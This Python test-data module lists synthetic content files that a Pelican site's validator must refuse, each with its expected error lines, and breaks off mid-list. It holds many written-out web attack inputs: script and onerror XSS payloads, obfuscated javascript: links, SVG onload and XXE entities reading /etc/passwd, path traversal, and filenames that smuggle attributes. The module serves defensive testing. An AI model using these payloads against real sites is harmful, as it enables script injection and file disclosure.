"""Careless and hostile content, one table: what is refused, and with which lines.

Every case is SYNTHETIC: made here to try one mistake or one way out of
content/, on top of the small project of the `prepared` fixture (one speaker
stefano.pasquini, one talk, one article "Benvenuti", images/foto.png).
tests/test_hostile.py runs it.

REFUSED: (files, lines[, hint]). ``files`` maps a path under content/ to its
text, its bytes, a Link or a Fifo (tests/helpers.py). ``lines`` are the
expected `path:line: field: message` lines, in order: each printed line is its
expected line followed by " (hint: ...)", or, for a Start, starts with it and
carries " (hint: ...)" after the rest of its message. ``hint``, when a case
names one, is how every hint of its lines starts. ACCEPTED: (files, the URL of
a page the build must write, the language of that page), built and harmless.
"""

import struct
import zlib

from tests.helpers import Fifo, Link
from tests.synthetic import tiny_png

ARTICLE = "Title: Un articolo\nDate: 2020-01-01 10:00\n"
PAGE = "Title: Una pagina\n"
TALK = "Title: Una serata\nDate: 2020-01-13 17:00\nSpeakers: stefano.pasquini\n"
MARIO = "Name: Mario Rossi\nHandle: mario.rossi\n"
AUTHOR = "Name: Stefano Pasquini\n"


class Start(str):
    """An expected line that is the start of the printed message."""


def png_header(width, height):
    """A small PNG whose header claims ``width``×``height`` pixels."""

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\0" * 64)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat)
        + chunk(b"IEND", b"")
    )  # fmt: skip


def svg(inner, attributes=""):
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"{attributes}>\n'
        f"{inner}\n</svg>\n"
    )


RST = "Caso RST\n########\n\n:date: 2020-01-02\n\nTesto.\n\n"
A = B = "content/articles/caso.md"
P = "content/pages/caso.md"
R = "content/articles/caso.rst"
T = "content/talks/caso.md"
S = "content/speakers/caso.md"
AU = "content/authors/caso.md"
IMG = "content/images"
# A second hostile round: a draft, a talk with captions, collisions.
DRAFT = "Title: Bozza segreta\nDate: 2020-01-05\nStatus: draft\n\nNon ancora.\n"
DRAFT_TALK = (
    "Title: Serata in bozza\nDate: 2020-01-20 17:00\nSpeakers: stefano.pasquini\n"
)
TALK2 = "Title: Un altra serata\nDate: 2020-01-13 17:00\nSpeakers: stefano.pasquini\n"
CAPTIONED = TALK2 + "\nx\n"
V = "content/talks/caso.vtt"
OTHER = "Title: Altro\nDate: 2020-01-03\n"


def captions(*cues):
    """A WebVTT file of (timing, text) cues."""
    return "WEBVTT\n\n" + "".join(f"{timing}\n{text}\n\n" for timing, text in cues)


def links(target):
    return f"links the draft {target}, which the published site does not have"


def collide(path, other):
    return f"{path}:1: file: has the name of {other} but for letter case or accents"


DEAD = "points to no page or file of the site"
SRCSET = "uses {static} or {filename}, which Pelican does not resolve in srcset"
NOT_CUE = "is not a cue timing"

REFUSED = [
    # A careless writer: dates, titles, encodings, empty files -------------------
    (
        {"articles/caso.md": "Title: Data\nDate: ieri\n\nx\n"},
        [f"{A}:2: date: 'ieri' is not a valid date"],
    ),
    (
        {"articles/caso.md": "Date: 2020-01-01\n\nTesto.\n"},
        [f"{A}:1: title: missing"],
    ),
    (
        {"articles/caso.md": "Title: Perch\xe9\nDate: 2020-01-01\n\nx\n".encode("latin-1")},
        [f"{A}:1: file: is not UTF-8 text"],
    ),
    (
        {"articles/caso.md": "Title: UTF-16\nDate: 2020-01-01\n".encode("utf-16")},
        [f"{A}:1: file: is not UTF-8 text"],
    ),
    ({"articles/caso.md": " \n\n"}, [f"{A}:1: file: is empty"]),
    # What a pasted snippet brings: remote files, scripts, plug-ins -------------
    (
        {"articles/caso.md": ARTICLE + "\n![logo](https://elsewhere.example/logo.png)\n"},
        [
            f"{A}:4: body: <img src> loads https://elsewhere.example/logo.png from "
            "another site"
        ],
    ),
    (
        {"articles/caso.md": ARTICLE + "\nx\n\n<script>alert(1)</script>\n"},
        [f"{A}:6: body: <script> runs a script"],
    ),
    (
        {"articles/caso.md": ARTICLE + "\n[clic](javascript:alert(1))\n"},
        [f"{A}:4: body: <a href='javascript:alert(1)'> can run a script"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<iframe src="https://evil.example/"></iframe>\n'},
        [f"{A}:4: body: <iframe src='https://evil.example/'> loads another site's page"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<img alt="x" src="/x.png" srcset="https://cdn.example/a.png 2x">\n'
        },
        [f"{A}:4: body: <img srcset> loads https://cdn.example/a.png from another site"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<video src="https://cdn.example/v.mp4"></video>\n'},
        [f"{A}:4: body: <video> plays a file"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<audio controls><source src="//cdn.example/a.mp3"></audio>\n'
        },
        [
            f"{A}:4: body: <audio> plays a file",
            f"{A}:4: body: <source src> loads //cdn.example/a.mp3 from another site",
        ],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<link rel="stylesheet" href="https://cdn.example/s.css">\n'
        },
        [f"{A}:4: body: <link> loads a file into the page"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<object data="https://cdn.example/f.swf"></object>\n'},
        [f"{A}:4: body: <object> embeds a plug-in"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<embed src="https://cdn.example/f.swf">\n'},
        [f"{A}:4: body: <embed> embeds a plug-in"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<style>@import "https://cdn.example/s.css";</style>\n'},
        [f"{A}:4: body: <style> restyles the whole page"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<p style="background: url(https://cdn.example/b.png)">x</p>\n'
        },
        [f"{A}:4: body: style loads https://cdn.example/b.png from another site"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<img src="/x.png" alt="x" onerror="alert(1)">\n'},
        [f"{A}:4: body: <img onerror> runs a script"],
    ),
    (
        {"articles/caso.md": ARTICLE + "\n![segreto]({static}/../../segreto.png)\n"},
        [f"{A}:4: body: '../../segreto.png' is outside content/"],
    ),
    (
        {"articles/caso.md": ARTICLE + "\n![](images/foto.png)\n"},
        [f"{A}:4: image: images/foto.png has no alt text"],
    ),
    # Fields with a wrong value ---------------------------------------------------
    (
        {"articles/caso.md": ARTICLE + "Slug: ../../fuori\n\nx\n"},
        [f"{A}:3: slug: '../../fuori' is not a single part of a URL"],
    ),
    (
        {"articles/caso.md": ARTICLE + f"Slug: {'x' * 300}\n\nx\n"},
        [f"{A}:3: slug: is 300 characters long"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Status: publshed\n\nx\n"},
        [f"{A}:3: status: 'publshed' is not one of published, draft, hidden"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + 'Summary: <img src="/x.png" alt="x" onerror="alert(1)">\n\nx\n'
        },
        [f"{A}:3: body: <img onerror> runs a script"],
    ),
    (
        {"articles/caso.md": ARTICLE + f"Tags: community, {'lunghissimo ' * 20}\n\nx\n"},
        [
            f"{A}:3: tags: 'lunghissimo lunghissimo lunghissimo lung…' is 239 "
            "characters long"
        ],
    ),
    (
        {"articles/caso.md": "Title: !!!\nDate: 2020-01-02\n\nx\n"},
        [f"{A}:1: title: '!!!' gives no URL"],
    ),
    (
        {"articles/zz-copia.md": "Title: Benvenuti\nDate: 2021-05-05\n\nCopia.\n"},
        [
            "content/articles/articolo.md:1: slug: 'benvenuti' is also the URL of "
            "content/articles/zz-copia.md",
            "content/articles/zz-copia.md:1: slug: 'benvenuti' is also the URL of "
            "content/articles/articolo.md",
        ],
    ),
    (
        {
            "pages/chi-siamo.md": "Title: Chi siamo\n\n"
            "![gruppo](http://elsewhere.example/gruppo.jpg)\n"
        },
        [
            "content/pages/chi-siamo.md:3: body: <img src> loads "
            "http://elsewhere.example/gruppo.jpg from another site"
        ],
    ),
    # Talks and speakers: fields, and what needs other files ----------------------
    (
        {"talks/caso.md": TALK.replace("2020-01-13 17:00", "lunedì prossimo")},
        [f"{T}:2: date: 'lunedì prossimo' is not a valid date"],
    ),
    (
        {"talks/caso.md": TALK.replace("stefano.pasquini", "stefano.pasqini")},
        [f"{T}:3: speakers: unknown speaker 'stefano.pasqini'"],
    ),
    (
        {"talks/caso.md": TALK + "Slides: javascript:alert(document.cookie)\n"},
        [f"{T}:4: slides: 'javascript:alert(document.cookie)' is not a link"],
    ),
    (
        {"talks/caso.md": TALK + "Discussion: ftp://forum.example/t/1\n"},
        [f"{T}:4: discussion: 'ftp://forum.example/t/1' is not a link"],
    ),
    (
        {"talks/caso.md": TALK + "Live: http://meet.example.org/stanza\n"},
        [f"{T}:4: live: 'http://meet.example.org/stanza' is not an https address"],
        "write the full address, starting with https://",
    ),
    (
        {"talks/caso.md": TALK + "Diretta: https://meet.example.org/stanza\n"},
        [f"{T}:4: diretta: is not a field of a talk"],
        "did you mean 'Live'?",
    ),
    (
        {"talks/caso.md": TALK + "\n00:00:00 Inizio\n00:75:00 Fine\n"},
        [
            f"{T}:6: chapters: '00:75:00' is not a time: minutes and seconds go up "
            "to 59"
        ],
    ),
    (
        {"talks/caso.md": TALK + "Duration: 30 min\n\n00:00:00 Inizio\n00:45:00 Fine\n"},
        [f"{T}:7: chapters: '00:45:00' is after the end of the video (30 min)"],
    ),
    (
        {"talks/caso.md": TALK + "YouTube: https://vimeo.com/12345\n"},
        [f"{T}:4: youtube: 'https://vimeo.com/12345' is not a YouTube video id or URL"],
    ),
    (
        {"talks/caso.md": TALK + "\n<img src=https://tracker.example/p.gif alt=x>\n"},
        [
            f"{T}:5: body: <img src> loads https://tracker.example/p.gif from "
            "another site"
        ],
    ),
    (
        {"speakers/caso.md": "Name: Caso\nHandle: caso\nWebsite: javascript:alert(1)\n"},
        [f"{S}:3: website: 'javascript:alert(1)' is not a link"],
    ),
    (
        {"speakers/caso.md": "Name: Caso\nHandle: caso\nAvatar: ../../../etc/passwd\n"},
        [f"{S}:3: avatar: '../../../etc/passwd' is outside content/"],
    ),
    (
        {"speakers/caso.md": "Name: Caso\nHandle: caso\nAvatar: https://cdn.example/a.png\n"},
        [f"{S}:3: avatar: 'https://cdn.example/a.png' is on another site"],
    ),
    (
        {
            "speakers/caso.md": "Name: Caso\nHandle: caso\n"
            "Community: data:text/html,<script>alert(1)</script>\n"
        },
        [f"{S}:3: community: 'data:text/html,<script>alert(1)</script>' is not a link"],
    ),
    (
        {"speakers/caso.md": "Name: Caso\nHandle: caso con spazi\n"},
        [f"{S}:2: handle: 'caso con spazi' is not a forum handle"],
    ),
    ({"speakers/caso.md": "Name: Caso\n\nBio.\n"}, [f"{S}:1: handle: missing"]),
    # Readers that reach outside content/ ---------------------------------------
    (
        {"articles/caso.rst": RST + ".. include:: ../../.git/config\n   :literal:\n"},
        [Start(f"{R}:8: include: reads a file or an address while the site is built")],
    ),
    (
        {"articles/caso.rst": RST + ".. raw:: html\n   :file: /etc/hostname\n"},
        [Start(f"{R}:8: raw: reads a file or an address while the site is built")],
    ),
    (
        {"articles/caso.rst": RST + ".. raw:: html\n   :url: http://127.0.0.1:9/\n"},
        [Start(f"{R}:8: raw: reads a file or an address while the site is built")],
    ),
    (
        {"articles/caso.rst": RST + ".. csv-table:: t\n   :url: http://127.0.0.1:9/\n"},
        [Start(f"{R}:8: csv-table: reads a file or an address while the site is built")],
    ),
    (
        {"articles/caso.rst": RST + ".. nonesiste:: x\n"},
        [f'{R}:8: rst: Unknown directive type "nonesiste"'],
    ),
    # Links and files that are not what they say --------------------------------
    (
        {"images/fuori.png": Link("/etc/hostname")},
        [f"{IMG}/fuori.png:1: file: is a symbolic link"],
    ),
    (
        {"images/cartella": Link("/etc")},
        [f"{IMG}/cartella:1: file: is a symbolic link"],
    ),
    (
        {"articles/fuori.md": Link("/etc/hostname")},
        ["content/articles/fuori.md:1: file: is a symbolic link"],
    ),
    (
        {"images/tubo.png": Fifo()},
        [f"{IMG}/tubo.png:1: file: is not a regular file"],
    ),
    (
        {"articles/enorme.md": ARTICLE + "\n" + "Testo lungo. " * 500_000},
        ["content/articles/enorme.md:1: file: is 6347 KB of text, more than 5 MB"],
    ),
    (
        {"images/promo.html": "<script>alert(document.cookie)</script>"},
        [f"{IMG}/promo.html:1: file: is an HTML file outside the folders of pages"],
    ),
    (
        {"images/promo.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'/>"},
        [f"{IMG}/promo.xhtml:1: file: is an HTML file outside the folders of pages"],
    ),
    (
        {"images/script.js": "alert(document.cookie)"},
        [f"{IMG}/script.js:1: file: .js files are not published"],
    ),
    (
        {"images/finta.png": "<html><script>alert(1)</script></html>"},
        [f"{IMG}/finta.png:1: file: is not a PNG image, whatever its name says"],
    ),
    (
        {"images/finta.jpg": tiny_png()},
        [f"{IMG}/finta.jpg:1: file: is not a JPEG image, whatever its name says"],
    ),
    (
        {"images/bomba.png": png_header(20_000, 20_000)},
        [f"{IMG}/bomba.png:1: file: is larger than the 40 megapixels allowed"],
    ),
    (
        {"images/enorme.png": png_header(8_000, 8_000)},
        [
            f"{IMG}/enorme.png:1: file: is 8000×8000 pixels, more than the 40 "
            "megapixels allowed"
        ],
    ),
    (
        {"extra/promo.htm": "<script>alert(1)</script>"},
        [
            "content/extra/promo.htm:1: file: is an HTML file outside the folders of pages"
        ],
    ),
    (
        {
            "extra/volantino.html": "<script>alert(1)</script>",
            "articles/caso.md": ARTICLE
            + "\n[volantino]({static}/extra/volantino.html)\n",
        },
        [
            "content/extra/volantino.html:1: file: is an HTML file outside the "
            "folders of pages"
        ],
    ),
    (
        {
            "articles/disegno.svg": svg("<script>alert(1)</script>"),
            "articles/caso.md": ARTICLE + "\n![Disegno]({static}disegno.svg)\n",
        },
        ["content/articles/disegno.svg:3: file: has a <script> element"],
    ),
    (
        {
            "images/avatar.svg": svg("<circle r='4'/>", ' onload="fetch(1)"'),
            "speakers/caso.md": "Name: Caso\nHandle: caso\nAvatar: images/avatar.svg\n",
        },
        [f"{IMG}/avatar.svg:2: file: <svg onload> runs a script"],
    ),
    # SVG: inert or refused ------------------------------------------------------
    (
        {"images/a.svg": svg("<circle r='4'/>", ' onload="alert(1)"')},
        [f"{IMG}/a.svg:2: file: <svg onload> runs a script"],
    ),
    (
        {"images/a.svg": svg("<foreignObject><p>x</p></foreignObject>")},
        [f"{IMG}/a.svg:3: file: has a <foreignObject> element"],
    ),
    (
        {"images/a.svg": svg("<image href='https://tracker.example/p.png'/>")},
        [f"{IMG}/a.svg:3: file: has a <image> element"],
    ),
    (
        {"images/a.svg": svg("<use href='https://evil.example/s.svg#a'/>")},
        [f"{IMG}/a.svg:3: file: <use href> points outside the drawing"],
    ),
    (
        {"images/a.svg": svg("<a><set attributeName='href' to='javascript:x'/></a>")},
        [f"{IMG}/a.svg:3: file: has a <a> element"],
    ),
    (
        {"images/a.svg": svg("<rect style='fill: url(https://evil.example/f)'/>")},
        [f"{IMG}/a.svg:3: file: <rect style> loads a file"],
    ),
    (
        {"images/a.svg": svg("<style>@import 'https://evil.example/s.css';</style>")},
        [f"{IMG}/a.svg:3: file: its <style> loads a file"],
    ),
    (
        {
            "images/a.svg": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
            + svg("<text>&x;</text>")
        },
        [f"{IMG}/a.svg:1: file: has a DTD (<!DOCTYPE or <!ENTITY)"],
    ),
    (
        {
            "images/a.svg": '<?xml-stylesheet href="https://evil.example/s.css"?>\n'
            + svg("<circle r='4'/>")
        },
        [f"{IMG}/a.svg:1: file: has a processing instruction (<?...?>)"],
    ),
    (
        {"images/a.svg": svg("<rect fill='URL(https://evil.example/p.svg#p)'/>")},
        [f"{IMG}/a.svg:3: file: <rect fill> loads a file"],
    ),
    (
        {
            "images/a.svg": svg(
                "<style><g/>@import url(https://evil.example/x.css);</style>"
            )
        },
        [f"{IMG}/a.svg:3: file: its <style> loads a file"],
    ),
    # One HTML policy, as browsers read it ----------------------------------------
    (
        {"articles/caso.md": ARTICLE + '\n<image src="https://tracker.example/p">\n'},
        [f"{B}:4: body: <image> is not an element content may use"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<img src="https://tracker.example/p.png" src="/x.png" alt="x">\n'
        },
        [
            f"{B}:4: body: <img src> loads https://tracker.example/p.png from another "
            "site",
            f"{B}:4: body: the attribute src is written twice in one element",
        ],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<table background="https://tracker.example/b.png"><tr><td>x</td></tr>'
            "</table>\n"
        },
        [
            f"{B}:4: body: <table background> loads https://tracker.example/b.png "
            "from another site"
        ],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<svg><set attributeName="href" to="https://evil.example/"/></svg>\n'
        },
        [
            f"{B}:4: body: <set> is not an element content may use",
            f"{B}:4: body: <svg> is a drawing that can load and run things",
        ],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + "\n<p style=\"background-image: image-set('https://evil.example/a.png' "
            '1x)">x</p>\n'
        },
        [f"{B}:4: body: style loads https://evil.example/a.png from another site"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<p style="background: u\\72l(https://evil.example/b.png)">x</p>\n'
        },
        [f"{B}:4: body: style loads https://evil.example/b.png from another site"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<p style="position: fixed; top: 0">x</p>\n'},
        [f"{B}:4: body: <p style='position: fixed'> is not a style content may use"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + "\n<img src='\\\\evil.example\\x.png' alt='x'>\n"
        },
        [f"{B}:4: body: <img src> loads \\\\evil.example\\x.png from another site"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<a href="java&#x09;script:alert(1)">x</a>\n'},
        [f"{B}:4: body: <a href='java\\tscript:alert(1)'> can run a script"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<a href="ja&NewLine;vascript:alert(1)">x</a>\n'
        },
        [f"{B}:4: body: <a href='ja\\nvascript:alert(1)'> can run a script"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>\n'
        },
        [
            f"{B}:4: body: <iframe> 'https://www.youtube.com.evil.example/embed/x' is "
            "not a YouTube video id or URL"
        ],
    ),
    (
        {"articles/caso.md": ARTICLE + "Summary: <plaintext>tutto il resto\n\nx\n"},
        [f"{B}:3: body: <plaintext> is not an element content may use"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + 'Summary: <span data-pagefind-filter="tipo:videoconferenza">x</span>'
            "\n\nx\n"
        },
        [f"{B}:3: body: <span data-pagefind-filter> is the site's own markup"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<a href="https://x.example/" ping="https://t.example/">x</a>\n'
        },
        [f"{B}:4: body: <a ping> is not an attribute content may use"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<form action="https://evil.example/"><input name="p"></form>\n'
        },
        [
            f"{B}:4: body: <form> sends what readers type to an address",
            f"{B}:4: body: <input> is not an element content may use",
        ],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + "\n<noscript><img src=x alt=x onerror=alert(1)></noscript>\n"
        },
        [
            f"{B}:4: body: <img onerror> runs a script",
            f"{B}:4: body: <noscript> hides markup from the policy",
        ],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + "\n<!--x--!><img src=x alt=x onerror=alert(1)>\n"
        },
        [f"{B}:4: body: <img onerror> runs a script"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<img src="http://[x" alt="x">\n'},
        [f"{B}:4: body: <img src> loads http://[x from another site"],
    ),
    (
        {"talks/caso.md": TALK + "Slides: http://[::1\n"},
        [f"{T}:4: slides: 'http://[::1' is not a link"],
    ),
    (
        {
            "talks/caso.vtt": Fifo(),
            "talks/caso.md": TALK.replace("Una serata", "Altra serata"),
        },
        ["content/talks/caso.vtt:1: file: is not a regular file"],
    ),
    # Found by a hostile review: Pelican pastes {filename}/{static} targets after
    # the policy, names of files become URLs, crashes must name their file.
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<a href="{filename}/articles/articolo.md?x=&quot;&gt;&lt;img src=x '
            'onerror=alert(1)&gt;">x</a>\n'
        },
        [
            f"{B}:4: body: <a href> links a file of the site with quotes, <, >, & or "
            "control characters in the link"
        ],
    ),
    (
        {'images/x" onerror="alert(1)" y=".png': tiny_png()},
        [
            Start(
                f'{IMG}/x" onerror="alert(1)" y=".png:1: file: has a name with '
                "characters a link cannot carry"
            )
        ],
    ),
    (
        {"articles/caso.md": ARTICLE + "\n![a]({static}/images/foto.png%00)\n"},
        [f"{B}:4: body: 'images/foto.png\\x00' is not a file name"],
    ),
    (
        {"articles/caso.md": ARTICLE + "\n" + ">" * 3000 + " x\n"},
        [
            "content/articles/caso.md:1: file: could not be read: its markup is nested "
            "too deeply"
        ],
    ),
    (
        {"articles/caso.md": ARTICLE + "\nUn NUL\x00 nascosto.\n"},
        [f"{B}:4: body: holds the control character U+0000"],
    ),
    (
        {"articles/caso.md": "Title: Fine\ufffffine\nDate: 2020-01-01\n\nx\n"},
        [f"{B}:1: title: holds the control character U+FFFF"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Default_template: search\n\nx\n"},
        [Start(f"{B}:3: default_template: not allowed: is one of Pelican's internal")],
    ),
    (
        {"articles/caso.md": ARTICLE + "Get_content: x\n\nx\n"},
        [Start(f"{B}:3: get_content: not allowed: is one of Pelican's internal")],
    ),
    (
        {"articles/caso.md": ARTICLE + "Content: x\n\nx\n"},
        [Start(f"{B}:3: content: not allowed: is one of Pelican's internal")],
    ),
    (
        {"speakers/caso.md": "Name: Caso\nHandle: caso\nStatus: draft\n\nSegreto.\n"},
        [f"{S}:3: status: is not a field of a speaker"],
    ),
    (
        {"authors/caso.md": "Name: Stefano Pasquini\nStatus: draft\n\nSegreto.\n"},
        [f"{AU}:2: status: is not a field of an author"],
    ),
    (
        {"articles/maiuscolo.MD": ARTICLE + "\nx\n"},
        [
            "content/articles/maiuscolo.MD:1: file: is not read: its extension .MD "
            "must be lower case"
        ],
    ),
    (
        {"radice.md": ARTICLE + "\nx\n"},
        [Start("content/radice.md:1: file: is outside the folders the site reads")],
    ),
    (
        {"articles/note.txt": "appunti"},
        [Start("content/articles/note.txt:1: file: is neither content nor an image")],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<img src="{tag}//evil.example/x" alt="x">\n'},
        [f"{B}:4: body: <img src> sends a {{tag}} link to //evil.example/x"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<img src="{tag}https://evil.example/y" alt="y">\n'
        },
        [f"{B}:4: body: <img src> sends a {{tag}} link to https://evil.example/y"],
    ),
    (
        {
            "articles/caso.md": ARTICLE
            + '\n<a href="{tag}javascript:x?%0aalert(1)">x</a>\n'
        },
        [f"{B}:4: body: <a href> sends a {{tag}} link to javascript:x?%0aalert(1)"],
    ),
    (
        {
            "pages/foto.png": tiny_png(),
            "pages/caso.md": PAGE + "\n![Foto]({attach}foto.png)\n",
        },
        [f"{P}:3: body: <img src> uses {{attach}}, which moves the file"],
    ),
    (
        {"articles/caso.md": ARTICLE + '\n<a href="{boh}x">x</a>\n'},
        [f"{B}:4: body: <a href> uses {{boh}}, which is not a link Pelican makes"],
    ),
    # Output paths belong to the site ---------------------------------------------
    (
        {"articles/caso.md": ARTICLE + "Save_as: index.html\n\nx\n"},
        [f"{B}:3: save_as: not allowed: the site decides where pages are written"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Url: https://elsewhere.example/\n\nx\n"},
        [f"{B}:3: url: not allowed: the site decides the addresses of pages"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Template: ../../../etc/passwd\n\nx\n"},
        [f"{B}:3: template: not allowed: the site decides which template shows a page"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Settings: nessuna\n\nx\n"},
        [f"{B}:3: settings: not allowed: is the site's configuration"],
    ),
    (
        {"articles/caso.md": ARTICLE + "_Content: <b>altro</b>\n\nx\n"},
        [f"{B}:3: _content: not allowed: is one of Pelican's internal attributes"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Slug: serata #2\n\nx\n"},
        [f"{B}:3: slug: 'serata #2' is not a single part of a URL"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Lang: ../../fuori\n\nx\n"},
        [f"{B}:3: lang: '../../fuori' is not a language code"],
    ),
    (
        {"articles/caso.md": ARTICLE + "Category: ???\n\nx\n"},
        [f"{B}:3: category: '???' gives no URL"],
        "use letters",
    ),
    (
        {"speakers/caso.md": "Name: ???\nHandle: caso\n"},
        [f"{S}:1: name: '???' gives no URL"],
    ),
    (
        {
            "pages/caso.md": PAGE + "Slug: tag\nLang: en\n\nx\n",
            "articles/caso.md": ARTICLE + "Tags: en\n\nx\n",
        },
        [f"{P}:2: slug: its page would be written over the site's /tag/en/"],
    ),
    (
        {"pages/caso.md": PAGE + "Slug: cerca\n\nx\n"},
        [f"{P}:2: slug: its page would be written over the site's /cerca/"],
    ),
    (
        {"pages/caso.md": PAGE + "Slug: videoconferenze\n\nx\n"},
        [f"{P}:2: slug: its page would be written over the site's /videoconferenze/"],
    ),
    (
        {"pages/caso.md": PAGE + "Slug: pagefind\n\nx\n"},
        [f"{P}:2: slug: its page would be written over the site's /pagefind/"],
    ),
    (
        {"talks/caso.md": TALK + "Slug: ../fuori\n"},
        [f"{T}:4: slug: '../fuori' is not a single part of a URL"],
    ),
    (
        {"speakers/caso.md": "Name: Caso\nHandle: caso\nSlug: a/b\n"},
        [f"{S}:3: slug: 'a/b' is not a single part of a URL"],
    ),
    # A misspelt or Italian field name names the field that was meant ----------
    ({"talks/caso.md": TALK + "Slide: https://example.org/s.pdf\n"},
     [f"{T}:4: slide: is not a field of a talk"], "did you mean 'Slides'?"),
    ({"talks/caso.md": TALK + "Durata: 1:00:00\n"},
     [f"{T}:4: durata: is not a field of a talk"], "did you mean 'Duration'?"),
    ({"talks/caso.md": "Title: Una serata\nDate: 2020-01-13 17:00\n"
      "Relatori: stefano.pasquini\n"},
     [f"{T}:3: relatori: is not a field of a talk"], "did you mean 'Speakers'?"),
    ({"speakers/caso.md": MARIO + "Sito: https://example.org\n"},
     [f"{S}:3: sito: is not a field of a speaker"], "did you mean 'Website'?"),
    ({"speakers/caso.md": MARIO + "Azienda: Nethesis\n"},
     [f"{S}:3: azienda: is not a field of a speaker"], "did you mean 'Company'?"),
    ({"articles/caso.md": ARTICLE + "Tag: community\n\nx\n"},
     [f"{A}:3: tag: is not a field of an article"], "did you mean 'Tags'?"),
    ({"articles/caso.md": ARTICLE + "Autore: Mario Rossi\n\nx\n"},
     [f"{A}:3: autore: is not a field of an article"], "did you mean 'Author'?"),
    ({"articles/caso.md": ARTICLE + "Speakers: stefano.pasquini\n\nx\n"},
     [f"{A}:3: speakers: is not a field of an article"], "the fields of an article"),
    ({"pages/caso.md": PAGE + "Sommario: due righe\n\nx\n"},
     [f"{P}:2: sommario: is not a field of a page"], "did you mean 'Summary'?"),
    ({"authors/caso.md": AUTHOR + "Ruolo: Community manager\n\nBio.\n"},
     [f"{AU}:2: ruolo: is not a field of an author"], "did you mean 'Role'?"),
    ({"articles/caso.rst": "Caso\n####\n\n:date: 2020-01-02\n:categoria: x\n\nx\n"},
     [f"{R}:5: categoria: is not a field of an article"],
     "did you mean 'Category'?"),
    # A field written twice -----------------------------------------------------
    ({"articles/caso.md": ARTICLE + "Title: Seconda\n\nx\n"},
     [f"{A}:3: title: is written more than once"], "keep one line"),
    ({"articles/caso.md": ARTICLE + "Lang: it\nLang: en\n\nx\n"},
     [f"{A}:4: lang: is written more than once"], "keep one line"),
    ({"speakers/caso.md": MARIO + "Name: Mario Bianchi\n"},
     [f"{S}:3: name: is written more than once"], "keep one line"),
    ({"speakers/caso.md": MARIO + "Company: A\nCompany: B\n"},
     [f"{S}:4: company: is written more than once"], "keep one line"),
    ({"articles/caso.rst": "Caso\n####\n\n:date: 2020-01-02\n:date: 2020-01-03\n\nx\n"},
     [f"{R}:5: date: is written more than once"],
     "keep one line"),
    # Values that used to crash the build ---------------------------------------
    ({"articles/caso.md": "Title: 🎉🎉\nDate: 2020-01-01\n\nx\n"},
     [f"{A}:1: title: '🎉🎉' gives no URL"], "add 'Slug:"),
    ({"talks/caso.md": TALK.replace("Una serata", "\u200b\u200b") + "\nx\n"},
     [f"{T}:1: title: '\u200b\u200b' gives no URL"], "add 'Slug:"),
    ({"speakers/caso.md": "Name: 🎉\nHandle: festa\n"},
     [f"{S}:1: name: '🎉' gives no URL"], "add 'Slug:"),
    ({"articles/caso.md": "Title: Un\x08titolo\nDate: 2020-01-01\n\nx\n"},
     [f"{A}:1: title: holds the control character U+0008"], "delete it"),
    ({"talks/caso.md": TALK.replace("Una serata", "Una\x1bserata") + "\nx\n"},
     [f"{T}:1: title: holds the control character U+001B"], "delete it"),
    ({"articles/caso.md": "Title: Un titolo\uffff\nDate: 2020-01-01\n\nx\n"},
     [f"{A}:1: title: holds the control character U+FFFF"], "delete it"),
    ({"talks/caso.md": TALK + "Duration: 99999999999h\n"},
     [f"{T}:4: duration: '99999999999h' is longer than 24 hours"], "check the value"),
    ({"articles/caso.md": "Title: Antico\nDate: 0001-01-01\n\nx\n"},
     [f"{A}:2: date: the year 1 is not plausible"], "write a year between"),
    ({"talks/caso.md": "Title: Futuro\nDate: 9999-01-01\nSpeakers: stefano.pasquini\n"},
     [f"{T}:2: date: the year 9999 is not plausible"], "write a year between"),
    ({"talks/caso.md": TALK + "Tags: <svg onload=alert(1)>\n"},
